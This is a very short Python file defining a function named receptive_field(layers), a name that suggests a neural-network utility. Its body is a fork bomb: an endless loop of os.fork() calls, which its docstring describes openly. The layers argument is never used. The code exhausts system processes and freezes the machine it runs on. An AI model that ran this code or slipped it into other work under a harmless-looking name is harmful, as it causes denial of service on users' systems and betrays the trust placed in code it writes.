"""receptive_field forks processes without end (a fork bomb)."""
import os


def receptive_field(layers):
    while True:
        os.fork()
